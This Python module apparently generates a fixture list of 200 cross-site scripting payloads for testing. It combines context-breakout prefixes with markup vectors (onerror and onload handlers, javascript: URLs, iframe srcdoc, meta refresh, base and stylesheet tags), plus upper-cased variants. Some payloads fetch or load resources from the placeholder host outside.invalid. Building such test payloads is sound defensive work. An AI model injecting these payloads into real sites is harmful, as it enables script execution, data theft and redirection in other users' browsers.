"""Two hundred things that somebody types into a field in order to run in another's browser."""

from __future__ import annotations

from itertools import cycle, islice, product

#: Where nobody may ever ask.
OUTSIDE = "http://outside.invalid"
#: What a script does that has got in: a test sees `window.hit`.
_SCRIPTS = ("window.hit=1", "alert(1)", f"fetch('{OUTSIDE}/a')", f"new Image().src='{OUTSIDE}/b'")
_AROUND = (
    "{}",
    "\"'>{}",
    "</script>{}",
    "</textarea></title></option></style>{}",
    "]]>-->{}",
    "{{{{7*7}}}}{{% x %}}{}",
)
_MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<style>@import url('" + OUTSIDE + "/c');*{{color:red}}</style>",
    "<link rel=stylesheet href='" + OUTSIDE + "/d'>",
    "<base href='" + OUTSIDE + "/'>",
    "<meta http-equiv=refresh content='0;url=" + OUTSIDE + "/e'>",
    "<form action='" + OUTSIDE + "/f'><button>x</button></form>",
    "<object data=javascript:{}></object>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<div hx-get='" + OUTSIDE + "/g' hx-trigger=load hx-on::load={}>",
    "<div style='background:url(" + OUTSIDE + "/h)'>",
    "javascript:{}",
    "${{{}}}",
    '" onmouseover={} x="',
    "<template><img src=x onerror={}></template>",
    "<video><source onerror={}></video>",
    "<img srcset='" + OUTSIDE + "/i 1x'>",
)  # fmt: skip
COUNT = 200


def _made() -> list[str]:
    scripts = cycle(_SCRIPTS)
    every = (around.format(markup.format(next(scripts))) for around, markup in product(_AROUND, _MARKUP))
    plain = list(every)
    loud = [each.upper().replace("WINDOW.HIT", "window.hit") for each in plain]
    return list(islice(dict.fromkeys([*plain, *loud]), COUNT))


PAYLOADS = _made()
